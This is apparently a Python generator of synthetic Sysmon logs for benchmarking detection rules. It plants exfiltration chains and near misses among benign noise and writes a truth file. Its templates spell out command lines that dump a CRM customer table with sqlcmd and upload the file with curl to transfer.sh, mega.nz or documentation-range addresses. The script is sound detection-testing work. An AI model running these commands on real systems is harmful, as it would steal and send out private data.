#!/usr/bin/env python3
"""Synthetic Sysmon stream for the dumpwatch vs rsigma comparison.

Writes NXLog im_msvistalog style flattened JSON, one event per line, in event
time order (UtcTime), plus a truth file naming every planted attack chain and
every near miss.  Standard library only; deterministic for a given seed.

What is in the stream:

* benign noise (about 99 %): Sysmon 1 process starts of ordinary programs,
  Sysmon 3 connections (mostly internal, some to public cloud addresses),
  Sysmon 11 file creations (temp files, prefetch, caches, documents, and a
  few .csv downloads that match the export rule on their own) and Sysmon 22
  DNS queries, spread over --hosts workstations and a few SQL servers whose
  agent runs sqlcmd from its install path (a legitimate, non-matching start);
* --chains planted chains, each on its own host with its own account:
  a shell starts sqlcmd (from an odd path and/or under a shell), sqlcmd writes
  a .csv/.sql/.bak into the profile or its Temp folder, then curl.exe from the
  same shell uploads to a public address, all within about 6 minutes;
* near misses that neither engine should report, each with its own account:
  late_export    the export comes 11 to 13 minutes after the sqlcmd start
                 (outside the 10 minute window), then the upload;
  exec_egress    sqlcmd start and upload, no export file;
  export_egress  a .csv export and an upload, no database tool start;
  exec_alone     only the sqlcmd start;
  agent_backup   sqlcmd from its install path under SQLAGENT.EXE (not an odd
                 start) writes a .bak in the profile and the account uploads.

Usage: gen.py --out events.jsonl --truth truth.json [--events 1000000]
"""

import argparse
import calendar
import hashlib
import json
import random
import time

SYSMON_PROVIDER_GUID = "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"
CHANNEL = "Microsoft-Windows-Sysmon/Operational"
DOMAIN = "CORP"
DNS_SUFFIX = "corp.example"

FIRST = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi",
         "ivan", "judy", "mallory", "niaj", "olivia", "peggy", "rupert",
         "sybil", "trent", "victor", "walter", "yolanda"]

# Public addresses ordinary workstations talk to (cloud, CDN, search).
PUBLIC_PREFIXES = ["13.107.", "20.190.", "40.126.", "52.96.", "142.250.",
                   "151.101.", "104.16.", "23.45."]
# Where the planted uploads go (documentation ranges: never routed).
EXFIL_PREFIXES = ["198.51.100.", "203.0.113."]
EXFIL_NAMES = ["transfer.sh", "mega.nz", "files.upload-box.example", "-"]

DNS_NAMES = [
    ("login.microsoftonline.com", "::ffff:20.190.151.7;"),
    ("outlook.office365.com", "::ffff:52.96.88.162;"),
    ("teams.microsoft.com", "::ffff:52.113.194.132;"),
    ("www.google.com", "::ffff:142.250.74.36;"),
    ("settings-win.data.microsoft.com", "::ffff:40.126.32.74;"),
    ("dc01.corp.example", "::ffff:10.0.0.10;"),
    ("fs01.corp.example", "::ffff:10.0.0.20;"),
    ("wpad.corp.example", ""),
    ("github.com", "::ffff:140.82.121.4;"),
    ("update.googleapis.com", "::ffff:142.250.74.99;"),
    ("cdn.jsdelivr.net", "::ffff:151.101.1.229;"),
    ("api.slack.com", "::ffff:23.45.67.89;"),
]

# Ordinary user programs: (image, parent image, command line template).
USER_PROGRAMS = [
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", r"C:\Windows\explorer.exe",
     '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US'),
    (r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", r"C:\Windows\explorer.exe",
     '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --single-argument'),
    (r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", r"C:\Windows\explorer.exe",
     '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"'),
    (r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE", r"C:\Windows\explorer.exe",
     '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" /dde'),
    (r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", r"C:\Windows\explorer.exe",
     '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n'),
    (r"C:\Windows\System32\notepad.exe", r"C:\Windows\explorer.exe",
     '"C:\\Windows\\system32\\notepad.exe"'),
    (r"C:\Windows\System32\cmd.exe", r"C:\Windows\explorer.exe",
     '"C:\\Windows\\system32\\cmd.exe"'),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", r"C:\Windows\explorer.exe",
     '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoLogo'),
    (r"C:\Windows\System32\conhost.exe", r"C:\Windows\System32\cmd.exe",
     '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1'),
    (r"C:\Program Files\Git\cmd\git.exe", r"C:\Windows\System32\cmd.exe",
     'git fetch --all'),
    (r"C:\Users\{u}\AppData\Local\Programs\Microsoft VS Code\Code.exe", r"C:\Windows\explorer.exe",
     '"C:\\Users\\{u}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe"'),
    (r"C:\Users\{u}\AppData\Local\Microsoft\Teams\current\Teams.exe", r"C:\Windows\explorer.exe",
     '"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" --process-start-reason=AutoStart'),
    (r"C:\Windows\System32\RuntimeBroker.exe", r"C:\Windows\System32\svchost.exe",
     'C:\\Windows\\System32\\RuntimeBroker.exe -Embedding'),
    (r"C:\Program Files\Microsoft OneDrive\OneDrive.exe", r"C:\Windows\explorer.exe",
     '"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe" /background'),
]
SYSTEM_PROGRAMS = [
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\System32\services.exe",
     'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule'),
    (r"C:\Windows\System32\SearchProtocolHost.exe", r"C:\Windows\System32\SearchIndexer.exe",
     '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe1'),
    (r"C:\Windows\System32\taskhostw.exe", r"C:\Windows\System32\svchost.exe",
     'taskhostw.exe -RegisterDevice -ProtectionStateChanged'),
    (r"C:\Windows\System32\wbem\WmiPrvSE.exe", r"C:\Windows\System32\svchost.exe",
     'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding'),
    (r"C:\Program Files\Windows Defender\MsMpEng.exe", r"C:\Windows\System32\services.exe",
     '"C:\\Program Files\\Windows Defender\\MsMpEng.exe"'),
]
SQLCMD_KNOWN = r"C:\Program Files\Microsoft SQL Server\Client SDK\ODBC\170\Tools\Binn\SQLCMD.EXE"
SQLAGENT = r"C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\SQLAGENT.EXE"
CMD = r"C:\Windows\System32\cmd.exe"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
CURL = r"C:\Windows\System32\curl.exe"

INTERNAL_DESTS = [("10.0.0.10", 445), ("10.0.0.10", 88), ("10.0.0.10", 389),
                  ("10.0.0.10", 135), ("10.0.0.20", 445), ("10.0.0.30", 443),
                  ("10.0.0.40", 8080), ("172.16.5.10", 443), ("192.168.10.1", 53)]


_HASHES = {}


def image_hash(image):
    h = _HASHES.get(image)
    if h is None:
        h = _HASHES[image] = "SHA256=" + hashlib.sha256(image.lower().encode()).hexdigest().upper()
    return h


class Clock:
    """Fast 'YYYY-MM-DD HH:MM:SS.mmm' formatting of epoch milliseconds."""

    def __init__(self):
        self.sec = None
        self.txt = ""

    def fmt(self, ms):
        s = ms // 1000
        if s != self.sec:
            self.sec = s
            self.txt = time.strftime("%Y-%m-%d %H:%M:%S", time.gmtime(s))
        return "%s.%03d" % (self.txt, ms % 1000)

    def sec_txt(self, ms):
        self.fmt(ms)
        return self.txt


class Host:
    def __init__(self, idx, name, ip, user):
        self.idx = idx
        self.name = name          # FQDN as Sysmon writes it
        self.ip = ip
        self.user = user          # primary (noise) user, DOMAIN\name
        self.record = 1000 * idx + 1
        self.next_proc = 1
        self.live = []            # (guid, pid, image, user) of running processes

    def new_proc(self, rng):
        n = self.next_proc
        self.next_proc += 1
        guid = "{%08x-%04x-6632-%04x-%012x}" % (
            0x6f1d0000 + self.idx, n & 0xffff, (n >> 16) & 0xffff, rng.getrandbits(40))
        pid = str(rng.randrange(1000, 65000, 4))
        return guid, pid


class Gen:
    def __init__(self, args):
        self.rng = random.Random(args.seed)
        self.clock = Clock()
        self.start_ms = calendar.timegm(time.strptime(args.start, "%Y-%m-%dT%H:%M:%S")) * 1000
        self.span_ms = int(args.hours * 3600 * 1000)
        self.hosts = []
        for i in range(args.hosts):
            name = "WKS%04d.%s" % (i + 1, DNS_SUFFIX)
            ip = "10.%d.%d.%d" % (10 + i // 60000, (i // 250) % 240, i % 250 + 2)
            user = "%s\\%s.%s%d" % (DOMAIN, FIRST[i % len(FIRST)], "w", i + 1)
            self.hosts.append(Host(i, name, ip, user))
        self.servers = []
        for j in range(args.sql_servers):
            i = args.hosts + j
            self.servers.append(Host(i, "SQLPRD%02d.%s" % (j + 1, DNS_SUFFIX),
                                     "10.20.0.%d" % (j + 5), "%s\\svc_sqlagent" % DOMAIN))
        for h in self.hosts:
            self.seed_live(h)

    # ---------------------------------------------------------------- records

    def base(self, host, ms, eid, task, image, guid, pid, user, msg):
        host.record += 1
        utc = self.clock.fmt(ms)
        return {
            "EventTime": self.clock.sec_txt(ms),
            "Hostname": host.name,
            "Keywords": "0x8000000000000000",
            "EventType": "INFO",
            "SeverityValue": 2,
            "Severity": "INFO",
            "EventID": eid,
            "SourceName": "Microsoft-Windows-Sysmon",
            "ProviderGuid": SYSMON_PROVIDER_GUID,
            "Version": 5 if eid in (1, 3) else 2,
            "Task": task,
            "OpcodeValue": 0,
            "RecordNumber": host.record,
            "ProcessID": 3204,
            "ThreadID": 4412,
            "Channel": CHANNEL,
            "Domain": "NT AUTHORITY",
            "AccountName": "SYSTEM",
            "UserID": "S-1-5-18",
            "AccountType": "User",
            "Message": msg,
            "Opcode": "Info",
            "RuleName": "-",
            "UtcTime": utc,
            "ProcessGuid": guid,
            "ProcessId": pid,
            "Image": image,
        }

    def tail(self, rec):
        rec["EventReceivedTime"] = rec["EventTime"]
        rec["SourceModuleName"] = "eventlog"
        rec["SourceModuleType"] = "im_msvistalog"
        return rec

    def proc_start(self, host, ms, image, cmdline, user, parent, integrity="Medium"):
        """parent = (guid, pid, image, cmdline); returns (record, (guid, pid, image, user))."""
        guid, pid = host.new_proc(self.rng)
        r = self.base(host, ms, 1, 1, image, guid, pid, user, "Process Create: " + image.rsplit("\\", 1)[-1])
        name = image.rsplit("\\", 1)[-1]
        r.update({
            "FileVersion": "-", "Description": "-", "Product": "-", "Company": "-",
            "OriginalFileName": name,
            "CommandLine": cmdline,
            "CurrentDirectory": "C:\\Windows\\system32\\" if user.startswith("NT AUTHORITY") else
            "C:\\Users\\%s\\" % user.split("\\")[-1],
            "User": user,
            "LogonGuid": "{6f1d2a3b-5a60-67b4-%04x-5d0000000000}" % (host.idx & 0xffff),
            "LogonId": "0x%x" % (0x3e7 if user.startswith("NT AUTHORITY") else 0x5d1f3a + host.idx),
            "TerminalSessionId": "0" if user.startswith("NT AUTHORITY") else "1",
            "IntegrityLevel": "System" if user.startswith("NT AUTHORITY") else integrity,
            "Hashes": image_hash(image),
            "ParentProcessGuid": parent[0],
            "ParentProcessId": parent[1],
            "ParentImage": parent[2],
            "ParentCommandLine": parent[3],
            "ParentUser": user,
        })
        return self.tail(r), (guid, pid, image, user)

    def net(self, host, ms, proc, dst_ip, dst_port, dst_name="-", initiated="true"):
        guid, pid, image, user = proc
        r = self.base(host, ms, 3, 3, image, guid, pid, user, "Network connection detected")
        r.update({
            "User": user,
            "Protocol": "tcp",
            "Initiated": initiated,
            "SourceIsIpv6": "false",
            "SourceIp": host.ip,
            "SourceHostname": host.name,
            "SourcePort": str(self.rng.randrange(49152, 65535)),
            "SourcePortName": "-",
            "DestinationIsIpv6": "false",
            "DestinationIp": dst_ip,
            "DestinationHostname": dst_name,
            "DestinationPort": str(dst_port),
            "DestinationPortName": {443: "https", 445: "microsoft-ds", 88: "kerberos",
                                    389: "ldap", 135: "epmap", 53: "domain",
                                    1433: "ms-sql-s"}.get(dst_port, "-"),
        })
        return self.tail(r)

    def file(self, host, ms, proc, path):
        guid, pid, image, user = proc
        r = self.base(host, ms, 11, 11, image, guid, pid, user, "File created")
        r.update({
            "TargetFilename": path,
            "CreationUtcTime": self.clock.fmt(ms),
            "User": user,
        })
        return self.tail(r)

    def dns(self, host, ms, proc, name, results):
        guid, pid, image, user = proc
        r = self.base(host, ms, 22, 22, image, guid, pid, user, "Dns query")
        r.update({
            "QueryName": name,
            "QueryStatus": "0",
            "QueryResults": results,
            "User": user,
        })
        return self.tail(r)

    # ------------------------------------------------------------------ noise

    def seed_live(self, h):
        rng = self.rng
        u = h.user
        short = u.split("\\")[-1]
        explorer = (h.new_proc(rng)[0], "5120", r"C:\Windows\explorer.exe", u)
        h.explorer = explorer
        h.live = [explorer]
        for img, _parent, _cmd in rng.sample(USER_PROGRAMS, 4):
            g, p = h.new_proc(rng)
            h.live.append((g, p, img.replace("{u}", short), u))
        for img, _parent, _cmd in SYSTEM_PROGRAMS[:2]:
            g, p = h.new_proc(rng)
            h.live.append((g, p, img, "NT AUTHORITY\\SYSTEM"))

    def noise(self, ms):
        rng = self.rng
        x = rng.random()
        if x < 0.004 and self.servers:
            return self.agent_job(rng.choice(self.servers), ms)
        h = self.hosts[rng.randrange(len(self.hosts))]
        short = h.user.split("\\")[-1]
        if x < 0.30:
            if rng.random() < 0.25:
                img, parent, cmd = rng.choice(SYSTEM_PROGRAMS)
                user = "NT AUTHORITY\\SYSTEM"
                par = ("{6f1d2a3b-0000-0000-0000-%012x}" % h.idx, "712", parent, parent)
            else:
                img, parent, cmd = rng.choice(USER_PROGRAMS)
                img = img.replace("{u}", short)
                cmd = cmd.replace("{u}", short)
                user = h.user
                if parent.endswith("explorer.exe"):
                    par = (h.explorer[0], h.explorer[1], parent, parent)
                else:
                    par = ("{6f1d2a3b-0000-0001-0000-%012x}" % h.idx, "4410", parent, parent)
            rec, proc = self.proc_start(h, ms, img, cmd, user, par)
            h.live.append(proc)
            if len(h.live) > 16:
                del h.live[1]
            return rec
        proc = h.live[rng.randrange(len(h.live))]
        if x < 0.60:
            if rng.random() < 0.22:
                ip = rng.choice(PUBLIC_PREFIXES) + "%d.%d" % (rng.randrange(256), rng.randrange(1, 255))
                return self.net(h, ms, proc, ip, 443)
            ip, port = rng.choice(INTERNAL_DESTS)
            return self.net(h, ms, proc, ip, port, initiated="true" if rng.random() < 0.9 else "false")
        if x < 0.88:
            y = rng.random()
            if y < 0.35:
                path = "C:\\Users\\%s\\AppData\\Local\\Temp\\%08x.tmp" % (short, rng.getrandbits(32))
            elif y < 0.55:
                path = "C:\\Windows\\Prefetch\\%s-%08X.pf" % (proc[2].rsplit("\\", 1)[-1].upper(), rng.getrandbits(32))
            elif y < 0.75:
                path = ("C:\\Users\\%s\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\"
                        "Cache_Data\\f_%06x" % (short, rng.getrandbits(24)))
            elif y < 0.88:
                path = "C:\\Users\\%s\\Documents\\notes_%d.docx" % (short, rng.randrange(1000))
            elif y < 0.95:
                path = "C:\\Windows\\Temp\\%08x.log" % rng.getrandbits(32)
            else:
                # a spreadsheet download: matches the export rule by itself
                path = "C:\\Users\\%s\\Downloads\\report_%d.csv" % (short, rng.randrange(10000))
            return self.file(h, ms, proc, path)
        name, results = rng.choice(DNS_NAMES)
        return self.dns(h, ms, proc, name, results)

    def agent_job(self, srv, ms):
        """A scheduled sqlcmd by the SQL Agent on a server: not an odd start."""
        par = ("{6f1d2a3b-0000-0002-0000-%012x}" % srv.idx, "2212", SQLAGENT, '"%s" -i MSSQLSERVER' % SQLAGENT)
        rec, _ = self.proc_start(srv, ms, SQLCMD_KNOWN,
                                 'SQLCMD.EXE -S . -E -Q "EXEC dbo.IndexOptimize @Databases = \'USER_DATABASES\'"',
                                 srv.user, par)
        return rec

    # ---------------------------------------------------------------- planted

    def shell(self, h, ms, user, kind):
        img = CMD if kind == "cmd" else POWERSHELL
        par = (h.explorer[0], h.explorer[1], r"C:\Windows\explorer.exe", r"C:\Windows\explorer.exe")
        return self.proc_start(h, ms, img, '"%s"' % img, user, par)

    def sqlcmd(self, h, ms, user, variant, parent, out):
        short = user.split("\\")[-1]
        if variant == "path":
            image = "C:\\Users\\%s\\AppData\\Local\\Temp\\tools\\sqlcmd.exe" % short
        elif variant == "parent":
            image = SQLCMD_KNOWN
        else:
            image = "C:\\ProgramData\\sqltools\\sqlcmd.exe"
        cmd = ('sqlcmd -S sqlprd01.%s -E -Q "SET NOCOUNT ON; SELECT * FROM crm.dbo.customers" '
               '-s, -W -o %s' % (DNS_SUFFIX, out))
        return self.proc_start(h, ms, image, cmd, user, parent)

    def export_path(self, user, n, ext, where):
        short = user.split("\\")[-1]
        base = ["customers", "payroll", "crm_full", "orders_2024", "hr_employees"][n % 5]
        if where == "temp":
            return "C:\\Users\\%s\\AppData\\Local\\Temp\\%s.%s" % (short, base, ext)
        return "C:\\Users\\%s\\Documents\\%s.%s" % (short, base, ext)

    def upload(self, h, ms, user, shell_proc, path, n):
        """curl.exe from the shell uploads the file: DNS query (when named) + Sysmon 3."""
        rng = self.rng
        out = []
        par = (shell_proc[0], shell_proc[1], shell_proc[2], '"%s"' % shell_proc[2])
        name = EXFIL_NAMES[n % len(EXFIL_NAMES)]
        ip = EXFIL_PREFIXES[n % 2] + str(10 + n % 200)
        url = "https://%s/up" % (name if name != "-" else ip)
        rec, curl = self.proc_start(h, ms, CURL, 'curl.exe -s -T "%s" %s' % (path, url), user, par)
        out.append((ms, rec))
        ms += rng.randrange(100, 900)
        if name != "-":
            out.append((ms, self.dns(h, ms, curl, name, "::ffff:%s;" % ip)))
            ms += rng.randrange(20, 200)
        out.append((ms, self.net(h, ms, curl, ip, 443, name)))
        return out, ip

    def planted(self, args):
        """All planted and near-miss events as (ms, record), and the truth."""
        rng = self.rng
        hosts = list(range(len(self.hosts)))
        rng.shuffle(hosts)
        plan = ([("chain", i) for i in range(args.chains)] +
                [("late_export", i) for i in range(args.late_export)] +
                [("exec_egress", i) for i in range(args.exec_egress)] +
                [("export_egress", i) for i in range(args.export_egress)] +
                [("exec_alone", i) for i in range(args.exec_alone)] +
                [("agent_backup", i) for i in range(args.agent_backup)])
        if len(plan) > len(hosts):
            raise SystemExit("need at least %d hosts" % len(plan))
        events, truth = [], []
        for k, (kind, i) in enumerate(plan):
            h = self.hosts[hosts[k]]
            user = "%s\\%s%02d" % (DOMAIN, {"chain": "ctr", "late_export": "late",
                                            "exec_egress": "noexp", "export_egress": "noexec",
                                            "exec_alone": "lone", "agent_backup": "svcbak"}[kind], i + 1)
            # keep everything at least 20 minutes away from both ends
            t0 = self.start_ms + 20 * 60000 + rng.randrange(self.span_ms - 40 * 60000)
            ext = ["csv", "sql", "bak"][i % 3]
            where = "temp" if i % 3 != 2 else "profile"
            path = self.export_path(user, i, ext, where)
            variant = ["path", "parent", "both"][i % 3]
            ev = []
            t = t0
            item = {"kind": kind, "host": h.name, "user": user, "start": self.clock.fmt(t0)}
            if kind == "agent_backup":
                par = ("{6f1d2a3b-0000-0002-0000-%012x}" % h.idx, "2212", SQLAGENT, '"%s" -i MSSQLSERVER' % SQLAGENT)
                rec, tool = self.proc_start(h, t, SQLCMD_KNOWN,
                                            'SQLCMD.EXE -S . -E -Q "BACKUP DATABASE crm TO DISK=\'%s\'"' % path,
                                            user, par)
                ev.append((t, rec))
                t += rng.randrange(20, 120) * 1000
                ev.append((t, self.file(h, t, tool, path)))
                t += rng.randrange(30, 180) * 1000
                up, ip = self.upload(h, t, user, tool, path, i)
                ev += up
                item.update(file=path, egress=ip)
            else:
                shell_kind = "cmd" if i % 2 == 0 else "powershell"
                rec, sh = self.shell(h, t, user, shell_kind)
                ev.append((t, rec))
                t += rng.randrange(2, 20) * 1000
                if kind == "export_egress":
                    # Excel saves a .csv, the shell uploads it: no database tool
                    par = (h.explorer[0], h.explorer[1], r"C:\Windows\explorer.exe", r"C:\Windows\explorer.exe")
                    img = r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE"
                    rec, xl = self.proc_start(h, t, img, '"%s" /dde' % img, user, par)
                    ev.append((t, rec))
                    t += rng.randrange(20, 120) * 1000
                    path = self.export_path(user, i, "csv", "temp")
                    ev.append((t, self.file(h, t, xl, path)))
                    t += rng.randrange(30, 180) * 1000
                    up, ip = self.upload(h, t, user, sh, path, i)
                    ev += up
                    item.update(file=path, egress=ip)
                else:
                    parent = (sh[0], sh[1], sh[2], '"%s"' % sh[2])
                    if variant == "path":
                        # started by a dropper, not a shell: the odd path alone makes it
                        drop = "C:\\Users\\%s\\AppData\\Local\\Temp\\upd.exe" % user.split("\\")[-1]
                        rec, dp = self.proc_start(h, t, drop, '"%s" /s' % drop, user, parent)
                        ev.append((t, rec))
                        t += rng.randrange(1, 5) * 1000
                        parent = (dp[0], dp[1], dp[2], '"%s" /s' % dp[2])
                    rec, tool = self.sqlcmd(h, t, user, variant, parent, path)
                    ev.append((t, rec))
                    item.update(exec_image=tool[2], exec_parent=parent[2])
                    # the query itself: an internal connection to the database server
                    t += rng.randrange(200, 900)
                    ev.append((t, self.net(h, t, tool, "10.20.0.5", 1433, "sqlprd01.%s" % DNS_SUFFIX)))
                    if kind in ("chain", "late_export"):
                        if kind == "chain":
                            t += rng.randrange(20, 120) * 1000
                        else:
                            t += (11 * 60 + rng.randrange(0, 120)) * 1000
                        ev.append((t, self.file(h, t, tool, path)))
                        item.update(file=path, file_time=self.clock.fmt(t))
                    if kind in ("chain", "late_export", "exec_egress"):
                        t += rng.randrange(30, 180) * 1000
                        up, ip = self.upload(h, t, user, sh, path, i)
                        ev += up
                        item.update(egress=ip, egress_time=self.clock.fmt(up[-1][0]))
            item["end"] = self.clock.fmt(ev[-1][0])
            events += ev
            truth.append(item)
        events.sort(key=lambda e: e[0])
        return events, truth


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--out", required=True, help="events file (JSON lines)")
    ap.add_argument("--truth", required=True, help="truth file (JSON)")
    ap.add_argument("--events", type=int, default=1_000_000, help="total events (default 1,000,000)")
    ap.add_argument("--hosts", type=int, default=2000, help="workstations (default 2000)")
    ap.add_argument("--sql-servers", type=int, default=4)
    ap.add_argument("--hours", type=float, default=8.0, help="time span of the stream")
    ap.add_argument("--start", default="2024-05-01T08:00:00", help="UTC start")
    ap.add_argument("--chains", type=int, default=50)
    ap.add_argument("--late-export", type=int, default=20)
    ap.add_argument("--exec-egress", type=int, default=10)
    ap.add_argument("--export-egress", type=int, default=10)
    ap.add_argument("--exec-alone", type=int, default=10)
    ap.add_argument("--agent-backup", type=int, default=10)
    ap.add_argument("--seed", type=int, default=677)
    args = ap.parse_args()

    g = Gen(args)
    planted, truth = g.planted(args)
    n_noise = args.events - len(planted)
    if n_noise < 0:
        raise SystemExit("--events too small for the planted events")
    # noise times: evenly spread with jitter, strictly in order
    step = g.span_ms / max(n_noise, 1)
    dumps = json.JSONEncoder(separators=(",", ":"), ensure_ascii=True).encode
    pi = 0
    written = 0
    with open(args.out, "w", encoding="ascii", newline="\n") as f:
        buf = []
        last = g.start_ms
        for k in range(n_noise):
            ms = max(last, g.start_ms + int(k * step + g.rng.random() * step))
            last = ms
            while pi < len(planted) and planted[pi][0] <= ms:
                buf.append(dumps(planted[pi][1]))
                pi += 1
            buf.append(dumps(g.noise(ms)))
            if len(buf) >= 4096:
                f.write("\n".join(buf))
                f.write("\n")
                written += len(buf)
                buf = []
        while pi < len(planted):
            buf.append(dumps(planted[pi][1]))
            pi += 1
        if buf:
            f.write("\n".join(buf))
            f.write("\n")
            written += len(buf)
    summary = {
        "events": written,
        "planted_events": len(planted),
        "chains": args.chains,
        "near_misses": {k: sum(1 for t in truth if t["kind"] == k)
                        for k in ("late_export", "exec_egress", "export_egress", "exec_alone", "agent_backup")},
        "seed": args.seed,
        "items": truth,
    }
    with open(args.truth, "w") as f:
        json.dump(summary, f, indent=1)
    print("wrote %d events (%d planted/near-miss) to %s" % (written, len(planted), args.out))


if __name__ == "__main__":
    main()
